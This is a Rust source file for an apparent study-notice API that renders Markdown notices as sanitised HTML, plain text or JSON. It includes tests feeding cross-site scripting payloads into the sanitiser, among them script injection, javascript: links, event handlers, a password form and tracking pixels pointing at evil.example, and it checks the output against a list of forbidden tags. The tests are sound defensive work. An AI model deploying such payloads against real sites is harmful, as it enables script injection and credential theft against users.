//! Information notices: as Markdown, as HTML, as text, and what is known of them.

mod text;

use crate::error::ApiError;
use crate::messages;
use crate::middleware::preferred;
use crate::response::etag;
use actix_web::http::header::{HeaderMap, HeaderName};
use ammonia::Builder;
use pulldown_cmark::{Options, Parser, html};
use serde::Serialize;
use sillage_domain::{NoticeSummary, NoticeVersion, Slug, StoredNotice, Timestamp};
use std::collections::HashSet;
use utoipa::ToSchema;

/// Asks for a form, whatever `Accept` says.
const DATA_FORMAT: HeaderName = HeaderName::from_static("x-data-format");
/// What a notice comes as; the first by default.
pub(crate) const FORMATS: &[&str] = &[
    "text/markdown",
    "text/html",
    "text/plain",
    "application/json",
];

/// A form of a notice.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Form {
    Markdown,
    Html,
    Text,
    Json,
}

impl Form {
    const ALL: [Self; 4] = [Self::Markdown, Self::Html, Self::Text, Self::Json];

    /// What `X-Data-Format` asks for, or else `Accept`.
    pub(crate) fn of(headers: &HeaderMap) -> Result<Self, ApiError> {
        if let Some(asked) = headers.get(DATA_FORMAT) {
            let asked = asked.to_str().unwrap_or_default().trim();
            return match asked.to_ascii_lowercase().as_str() {
                "markdown" => Ok(Self::Markdown),
                "html" => Ok(Self::Html),
                "text" | "texte" => Ok(Self::Text),
                _ => Err(messages::no_such_format().into()),
            };
        }
        Ok(match preferred(headers, FORMATS) {
            Some("text/html") => Self::Html,
            Some("text/plain") => Self::Text,
            Some("application/json") => Self::Json,
            _ => Self::Markdown,
        })
    }

    /// Its media type.
    pub(crate) const fn media_type(self) -> &'static str {
        match self {
            Self::Markdown => "text/markdown; charset=utf-8",
            Self::Html => "text/html; charset=utf-8",
            Self::Text => "text/plain; charset=utf-8",
            Self::Json => "application/json",
        }
    }

    /// The notice in that form.
    pub(crate) fn write(
        self,
        root: &str,
        slug: &Slug,
        notice: StoredNotice,
    ) -> Result<String, ApiError> {
        Ok(match self {
            Self::Markdown => notice.text,
            Self::Html => html_of(&notice.text),
            Self::Text => text::text_of(&notice.text),
            Self::Json => {
                let mut view = NoticeView::new(root, slug, &notice.summary);
                view.text = Some(notice.text);
                serde_json::to_string(&view).map_err(ApiError::internal)?
            }
        })
    }
}

/// The tag of a notice in that form: other bytes, so another tag.
pub(crate) fn tag_of(notice: &NoticeSummary, form: Form) -> String {
    let version = notice.version.0.to_be_bytes();
    let created = notice.created_at.micros().to_be_bytes();
    let form = format!("{form:?}");
    etag(&[&version, &notice.hash, &created, form.as_bytes()])
}

/// The tags of a notice in every form.
pub(crate) fn tags_of(notice: &NoticeSummary) -> Vec<String> {
    Form::ALL.iter().map(|form| tag_of(notice, *form)).collect()
}

/// The Markdown that is understood: CommonMark and tables.
fn parser(markdown: &str) -> Parser<'_> {
    Parser::new_ext(markdown, Options::ENABLE_TABLES)
}

/// As HTML, a fragment of a page, without anything that runs, and without pictures: one from elsewhere would tell its host who reads.
fn html_of(markdown: &str) -> String {
    let mut page = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut page, parser(markdown));
    Builder::default()
        .rm_tags(["img"])
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .clean(&page)
        .to_string()
}

/// 32 bytes in hexadecimal digits.
pub(crate) fn hex(hash: &[u8; 32]) -> String {
    hash.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// A version of a notice.
#[derive(Serialize, ToSchema)]
#[schema(as = Notice)]
pub(crate) struct NoticeView {
    /// Its number in the study, whatever its language: consents name it.
    #[schema(value_type = i32, example = 3)]
    version: NoticeVersion,
    /// The language that it is in.
    #[schema(example = "fr")]
    language: String,
    /// SHA-256 of the Markdown, in hexadecimal digits.
    hash: String,
    /// When it was put.
    #[schema(value_type = String)]
    created_at: Timestamp,
    /// Its URL.
    uri: String,
    /// Markdown, where the notice itself was asked for.
    #[serde(skip_serializing_if = "Option::is_none")]
    text: Option<String>,
}

impl NoticeView {
    pub(crate) fn new(root: &str, slug: &Slug, notice: &NoticeSummary) -> Self {
        Self {
            version: notice.version,
            language: notice.language.clone(),
            hash: hex(&notice.hash),
            created_at: notice.created_at,
            uri: uri(root, slug, notice.version),
            text: None,
        }
    }
}

/// Where a version is.
pub(crate) fn uri(root: &str, slug: &Slug, version: NoticeVersion) -> String {
    format!("{root}/v1/studies/{slug}/notice?version={version}")
}

/// What became of a notice that was put.
#[derive(Serialize, ToSchema)]
pub(crate) struct NoticeTaken {
    /// The version that holds now in that language.
    #[schema(value_type = i32, example = 3)]
    pub(crate) version: NoticeVersion,
    /// The language.
    #[schema(example = "fr")]
    pub(crate) language: String,
    /// SHA-256 of the Markdown, in hexadecimal digits.
    pub(crate) hash: String,
    /// `false` if it is what held already, so that nothing was kept.
    pub(crate) changed: bool,
    /// Its URL.
    pub(crate) uri: String,
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use rstest::rstest;

    #[rstest]
    #[case("<script>alert(1)</script>")]
    #[case("<SCRIPT SRC=//evil.example/x.js></SCRIPT>")]
    #[case("a <img src=x onerror=alert(1)> b")]
    #[case("[click](javascript:alert(1))")]
    #[case("[click](JaVaScRiPt:alert%281%29)")]
    #[case("[click](data:text/html;base64,PHNjcmlwdD4=)")]
    #[case("<a href=\"java\nscript:alert(1)\">x</a>")]
    #[case("<p onclick=\"alert(1)\" style=\"background:url(//evil.example)\">x</p>")]
    #[case("<iframe src=\"//evil.example\"></iframe>")]
    #[case("<svg><script>alert(1)</script></svg>")]
    #[case("<form action=\"//evil.example\"><input name=password></form>")]
    #[case("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")]
    #[case("![tracked](https://evil.example/pixel.png)")]
    #[case("<link rel=stylesheet href=//evil.example/x.css>")]
    #[case("<meta http-equiv=refresh content=\"0;url=//evil.example\">")]
    fn nothing_that_runs_or_is_fetched_is_left_of_a_notice(#[case] markdown: &str) {
        let page = html_of(markdown).to_ascii_lowercase();
        let harmful = [
            "<script",
            "onerror",
            "onclick",
            "javascript:",
            "data:",
            "<iframe",
            "<img",
            "<svg",
            "<form",
            "<input",
            "<style",
            "style=",
            "<link",
            "<meta",
            "<math",
        ];
        for part in harmful {
            assert!(!page.contains(part), "{part} in {page}");
        }
    }

    #[test]
    fn what_a_notice_says_is_left_of_it() {
        let page = html_of(
            "# Notice\n\nWe keep *what you do*.\n\n- one\n- [a link](https://example.org/)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        );
        let parts = [
            "<h1>Notice</h1>",
            "<em>what you do</em>",
            "<li>one</li>",
            "href=\"https://example.org/\"",
            "noopener",
            "<td>1</td>",
        ];
        for part in parts {
            assert!(page.contains(part), "no {part} in {page}");
        }
    }

    proptest! {
        #[test]
        fn no_mixture_of_signs_leaves_anything_that_runs(markdown in "(<|>|/|\"|'|=|script|img|svg|onload|src|href|javascript:|a|\\[|\\]|\\(|\\)|!|`|\n| ){0,40}") {
            let page = html_of(&markdown).to_ascii_lowercase();
            for part in ["<script", "<img", "<svg", "href=\"javascript"] {
                prop_assert!(!page.contains(part), "{}", page);
            }
        }
    }
}
